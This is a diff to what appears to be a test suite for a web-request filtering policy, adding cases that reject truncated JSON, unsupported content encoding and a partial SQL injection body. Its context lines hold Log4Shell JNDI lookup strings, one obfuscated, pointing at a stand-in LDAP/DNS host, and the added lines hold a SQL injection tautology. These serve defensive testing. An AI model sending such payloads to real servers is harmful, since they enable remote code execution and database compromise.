@@ -48,6 +48,9 @@ test.allow("a partner's address", json({ url: "https://hooks.partner.example/ord
 test.deny("Log4Shell in pieces", { path: "/", headers: { referer: "${${lower:j}ndi:${lower:l}dap://x.example/a}" } }, { rule: "expression-injection" });
 test.deny("Log4Shell in a JSON key", json({ "${jndi:dns://x.example}": 1 }), { rule: "expression-injection" });
 
+test.deny("JSON that breaks off", { method: "POST", path: "/items", headers: { "content-type": "application/json" }, body: `{"a":` }, { rule: "unreadable", status: 400 });
+test.deny("a coding that is not undone", { method: "POST", path: "/items", headers: { "content-type": "application/json", "content-encoding": "br" }, body: "{}" }, { rule: "unreadable" });
+test.deny("what stands before the break is found", { method: "POST", path: "/items", headers: { "content-type": "application/json" }, body: `{"a":"1' or '1'='1",` }, { rule: "sql-injection" });
 test.run();
 
 const excluding = policySuite("policy.ts", { mode: "enforce", params: { "api-attacks.exclusions": ["detector=sql-injection place=query name=q"], "api-attacks.exempt-paths": ["/editor"] } });
